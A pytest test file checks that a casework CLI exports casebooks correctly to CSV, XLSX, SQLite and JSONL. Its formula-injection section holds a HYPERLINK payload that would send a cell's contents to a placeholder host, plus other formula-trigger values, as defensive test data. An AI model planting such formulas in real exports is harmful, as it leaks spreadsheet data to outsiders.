"""`prelude export` end to end: every format holds the casebook's rows, the SQLite export
reproduces programme figures, the XLSX is typed, and spreadsheets never run a formula."""

from __future__ import annotations

import csv
import json
import re
import sqlite3
import statistics
from collections import Counter
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from conftest import write_casebook
from export_books import AS_OF, CASELOAD_BY_STAGE, FIGURES_BOOK, MEDIAN_DAYS_TO_FIRST_CONTACT
from typer.testing import CliRunner

from prelude_cli.book.casebook import open_casebook
from prelude_cli.case.model import stage_of
from prelude_cli.checks.validation import iter_cases
from prelude_cli.cli.main import app
from prelude_cli.export.sqlite import VIEW_COLUMNS
from prelude_cli.export.tables import TABLES, Column, tables_for
from prelude_cli.export.xlsx import xlsx_cell

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "sample_casebook"
FORMATS = ("csv", "xlsx", "sqlite", "jsonl")
TARGET = {"csv": "csv", "xlsx": "prelude.xlsx", "sqlite": "prelude.sqlite", "jsonl": "jsonl"}
runner = CliRunner()


def export(root: Path, out: Path, fmt: str, *extra: str) -> Any:
    return runner.invoke(app, ["export", "-C", str(root), "--as-of", AS_OF, "--format", fmt,
                               "--out", str(out), *extra])


def export_all(root: Path, folder: Path) -> dict[str, Path]:
    paths = {}
    for fmt in FORMATS:
        paths[fmt] = folder / TARGET[fmt]
        result = export(root, paths[fmt], fmt)
        assert result.exit_code == 0, result.output
    return paths


@pytest.fixture(scope="module")
def figures(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, Path]]:
    base = tmp_path_factory.mktemp("figures")
    root = write_casebook(base / "book", FIGURES_BOOK)
    return root, export_all(root, base / "exports")


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, Path]]:
    if not (SAMPLE / "casebook.yaml").is_file():
        pytest.skip("no sample casebook in this checkout")
    return SAMPLE, export_all(SAMPLE, tmp_path_factory.mktemp("sample"))


# --- reading an export back -----------------------------------------------------------------
def read_rows(fmt: str, path: Path) -> dict[str, list[dict[str, Any]]]:
    """Every table of an export as a list of dicts, whatever the format."""
    out: dict[str, list[dict[str, Any]]] = {}
    if fmt == "csv":
        for f in path.glob("*.csv"):
            with open(f, encoding="utf-8-sig", newline="") as fh:
                out[f.stem] = list(csv.DictReader(fh))
    elif fmt == "jsonl":
        for f in path.glob("*.jsonl"):
            with open(f, encoding="utf-8") as fh:
                out[f.stem] = [json.loads(line) for line in fh]
    elif fmt == "sqlite":
        db = sqlite3.connect(path)
        db.row_factory = sqlite3.Row
        names = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        out = {n: [dict(r) for r in db.execute(f'SELECT * FROM "{n}"')] for n in names}
        db.close()
    else:
        book = openpyxl.load_workbook(path, read_only=True)
        for sheet in book.worksheets:
            rows = list(sheet.iter_rows(values_only=True))
            width = len(rows[0])  # read-only mode drops empty cells at a row's end
            out[sheet.title] = [dict(zip(rows[0], r + (None,) * (width - len(r)), strict=True))
                                for r in rows[1:]]
        book.close()
    return out


def independent_counts(root: Path) -> dict[str, int]:
    """Rows each table should hold, counted from the YAML files without prelude's model."""
    counts = Counter({t.name: 0 for t in tables_for(False)})
    for folder in sorted((root / "cases").iterdir()):
        counts["cases"] += 1
        ident = yaml.safe_load((folder / "identification.yaml").read_text(encoding="utf-8"))
        counts["decisions"] += len(ident["decisions"])
        counts["contacts"] += len(list((folder / "contacts").glob("*.yaml")))
        for f in (folder / "assessments").glob("*.yaml"):
            counts["assessments"] += len(yaml.safe_load(f.read_text(encoding="utf-8"))["scores"])
        if (folder / "disruption.yaml").exists():
            d = yaml.safe_load((folder / "disruption.yaml").read_text(encoding="utf-8"))
            counts["disruption_actions"] += len(d["tactics"])
            counts["proportionality_reviews"] += len(d.get("reviews", []))
        if (folder / "plan.yaml").exists():
            p = yaml.safe_load((folder / "plan.yaml").read_text(encoding="utf-8"))
            counts["milestones"] += len(p.get("milestones", []))
            counts["interventions"] += len(p.get("interventions", []))
        counts["exits"] += (folder / "exit.yaml").exists()
    due = runner.invoke(app, ["due-reviews", "-C", str(root), "--as-of", AS_OF, "-f", "json"])
    counts["due_items"] = len(json.loads(due.stdout)["items"])
    counts["export_info"] = 1
    return dict(counts)


# --- row counts -------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", FORMATS)
def test_row_counts_agree_with_the_casebook(figures, fmt: str) -> None:
    root, paths = figures
    expected = independent_counts(root)
    got = {name: len(rows) for name, rows in read_rows(fmt, paths[fmt]).items()}
    assert got == expected
    # due items: OP-3CCCCC's failed approach (no contact) keeps its first contact due
    assert expected["cases"] == 6 and expected["assessments"] == 7 and expected["due_items"] == 7


@pytest.mark.parametrize("fmt", FORMATS)
def test_sample_row_counts_agree_with_the_casebook(sample, fmt: str) -> None:
    root, paths = sample
    got = {name: len(rows) for name, rows in read_rows(fmt, paths[fmt]).items()}
    assert got == independent_counts(root)


def test_cli_prints_row_counts(figures, tmp_path: Path, monkeypatch) -> None:
    root, _ = figures
    monkeypatch.chdir(tmp_path)
    result = export(root, Path("out.sqlite"), "sqlite")
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith(f"exported 6 cases as of {AS_OF} to out.sqlite (sqlite)")
    assert re.search(r"^\s+assessments\s+7$", result.stdout, re.M)


# --- programme figures from SQL ---------------------------------------------------------------
def documented_sql() -> list[str]:
    text = (ROOT / "docs" / "export.md").read_text(encoding="utf-8")
    return re.findall(r"```sql\n(.*?)```", text, re.S)


def model_figures(root: Path) -> tuple[dict[str, int], float]:
    """The two figures computed from the model, as the programme report defines them."""
    stages: Counter[str] = Counter()
    days = []
    for result in iter_cases(open_casebook(root), as_of=date.fromisoformat(AS_OF), checks=False):
        case = result.case
        stages[stage_of(case)] += 1
        include = next((d["date"] for d in case.decisions if d["decision"] == "include"), None)
        if include and case.contacts:
            first = min(c.date for c in case.contacts)
            days.append((first - date.fromisoformat(include)).days)
    return dict(stages), float(statistics.median(days))


def sql_figures(path: Path) -> tuple[dict[str, int], float]:
    caseload_sql, median_sql = documented_sql()[:2]
    db = sqlite3.connect(path)
    try:
        return dict(db.execute(caseload_sql).fetchall()), db.execute(median_sql).fetchone()[0]
    finally:
        db.close()


def test_sql_reproduces_the_figures_worked_by_hand(figures) -> None:
    root, paths = figures
    assert model_figures(root) == (CASELOAD_BY_STAGE, MEDIAN_DAYS_TO_FIRST_CONTACT)
    assert sql_figures(paths["sqlite"]) == (CASELOAD_BY_STAGE, MEDIAN_DAYS_TO_FIRST_CONTACT)


def test_sql_reproduces_the_figures_on_the_sample(sample) -> None:
    root, paths = sample
    assert sql_figures(paths["sqlite"]) == model_figures(root)


def test_sqlite_keys_indexes_and_summary_view(figures) -> None:
    _, paths = figures
    db = sqlite3.connect(paths["sqlite"])
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []
    fks = db.execute("SELECT * FROM pragma_foreign_key_list('contacts')").fetchall()
    assert [(fk[2], fk[3], fk[4]) for fk in fks] == [("cases", "case_id", "id")]
    pk = [r[1] for r in db.execute("PRAGMA table_info('assessments')") if r[5]]
    assert pk == ["case_id", "assessment_seq", "domain"]
    indexes = {r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='index'")}
    assert {"ix_contacts_date", "ix_due_items_case_id", "ix_assessments_date"} <= indexes
    types = {r[1]: r[2] for r in db.execute("PRAGMA table_info('decisions')")}
    assert (types["dashboard_score"], types["dashboard_rank"], types["date"]) == (
        "REAL", "INTEGER", "TEXT")
    view = db.execute("SELECT * FROM case_summary")
    assert [d[0] for d in view.description] == list(VIEW_COLUMNS)
    summary = {r[0]: r[1:] for r in db.execute(
        "SELECT case_id, contacts, assessments, milestones_met, milestones_missed, "
        "interventions, first_total_score, latest_total_score FROM case_summary")}
    assert summary["OP-1AAAAA"] == (2, 2, 1, 1, 2, 12, 18)
    assert summary["OP-4DDDDD"] == (0, 0, 0, 0, 0, None, None)
    db.close()


# --- XLSX ---------------------------------------------------------------------------------------
def test_xlsx_holds_the_same_rows_typed_with_frozen_headers(figures) -> None:
    _, paths = figures
    book = openpyxl.load_workbook(paths["xlsx"])
    as_json = read_rows("jsonl", paths["jsonl"])
    assert book.sheetnames == [t.name for t in tables_for(False)]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        rows = list(sheet.iter_rows(values_only=True))
        table = next(t for t in TABLES if t.name == sheet.title)
        assert list(rows[0]) == [c.name for c in table.selected(False)]
        plain = [[v.date().isoformat() if isinstance(v, datetime) else v for v in r]
                 for r in rows[1:]]
        assert plain == [list(r.values()) for r in as_json[sheet.title]]
    cases = book["cases"]
    assert cases["G2"].is_date and cases["G2"].number_format == "yyyy-mm-dd"
    decisions = {c.value: i for i, c in enumerate(book["decisions"][1])}
    row = list(book["decisions"].iter_rows(min_row=2, max_row=2))[0]
    assert row[decisions["dashboard_score"]].data_type == "n"
    assert isinstance(row[decisions["dashboard_rank"]].value, int)
    assert row[decisions["is_latest"]].data_type == "b"


# --- formula injection ----------------------------------------------------------------------
FORMULAS = {
    "officer": '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "area": "+44 cell",
    "forum": "-2+3",
    "recorded_by": "@SUM(A1)",
}


@pytest.fixture
def formula_book(casebook) -> Path:
    cid = "OP-7K3M9Q"
    return casebook({
        f"cases/{cid}/case.yaml": f"""
            id: {cid}
            officer: '{FORMULAS["officer"]}'
            area: '{FORMULAS["area"]}'
            concerns: [knife-crime]
            age_band: under-18
        """,
        f"cases/{cid}/identification.yaml": f"""
            decisions:
              - date: '2026-01-12'
                decision: include
                forum: '{FORMULAS["forum"]}'
                rationale: "\\tstarts with a tab"
                recorded_by: '{FORMULAS["recorded_by"]}'
                sources: {{}}
                approach: {{role: youth-worker, by: '2026-01-26'}}
        """,
    })


def test_csv_and_xlsx_neutralise_formulas_sqlite_and_jsonl_keep_them(formula_book,
                                                                    tmp_path: Path) -> None:
    paths = {}
    for fmt in FORMATS:
        paths[fmt] = tmp_path / "exports" / TARGET[fmt]
        result = export(formula_book, paths[fmt], fmt, "--include-text")
        assert result.exit_code == 0, result.output
    for fmt in FORMATS:
        rows = read_rows(fmt, paths[fmt])
        case, decision = rows["cases"][0], rows["decisions"][0]
        got = {"officer": case["officer"], "area": case["area"], "forum": decision["forum"],
               "recorded_by": decision["recorded_by"], "rationale": decision["rationale"]}
        wanted = {**FORMULAS, "rationale": "\tstarts with a tab"}
        if fmt in ("csv", "xlsx"):
            wanted = {k: "'" + v for k, v in wanted.items()}
        assert got == wanted, fmt
    book = openpyxl.load_workbook(paths["xlsx"])
    assert all(c.data_type != "f" for row in book["cases"].iter_rows() for c in row)


def test_xlsx_cells_never_carry_control_characters_or_overflow() -> None:
    """The reader refuses control characters, but an XLSX must never fail on one."""
    text = Column("notes", free_text=True)
    assert xlsx_cell("a\x01b", text) == "a\ufffdb"
    assert len(xlsx_cell("x" * 40_000, text)) == 32_767
    assert xlsx_cell("2026-05-01", Column("date", "date")) == date(2026, 5, 1)
    assert xlsx_cell(None, text) is None


# --- free text ------------------------------------------------------------------------------
def test_free_text_only_with_include_text(figures, tmp_path: Path) -> None:
    root, paths = figures
    plain = read_rows("jsonl", paths["jsonl"])
    assert "notes" not in plain["contacts"][0] and "rationale" not in plain["decisions"][0]
    assert "assessment_part2" not in plain
    assert not any("Tenancy at risk" in json.dumps(r) for rows in plain.values() for r in rows)
    result = export(root, tmp_path / "full", "jsonl", "--include-text")
    assert result.exit_code == 0, result.output
    full = read_rows("jsonl", tmp_path / "full")
    assert full["decisions"][0]["partner_summaries"] == "housing: Tenancy at risk."
    assert full["exits"][0]["feedback_text"] == "It helped."
    assert len(full["assessment_part2"]) == 3
    assert full["export_info"][0]["include_text"] is True
    # every column keeps its position: free text only adds columns at the end
    for name, rows in plain.items():
        if rows:
            assert list(full[name][0])[: len(rows[0])] == list(rows[0]), name


# --- JSONL and CSV files ----------------------------------------------------------------------
def test_jsonl_parses_line_by_line_in_column_order(figures) -> None:
    _, paths = figures
    for table in tables_for(False):
        text = (paths["jsonl"] / f"{table.name}.jsonl").read_bytes()
        assert b"\r" not in text
        for line in text.decode("utf-8").splitlines():
            assert list(json.loads(line)) == [c.name for c in table.selected(False)]


def test_csv_is_utf8_with_bom_and_crlf(figures) -> None:
    _, paths = figures
    raw = (paths["csv"] / "cases.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,area,officer,")
    assert raw.count(b"\r\n") == 7 and b"\n" not in raw.replace(b"\r\n", b"")
    rows = read_rows("csv", paths["csv"])
    assert rows["assessments"][0]["is_first"] == "true"
    assert rows["cases"][0]["concerns"] == "knife-crime;county-lines"
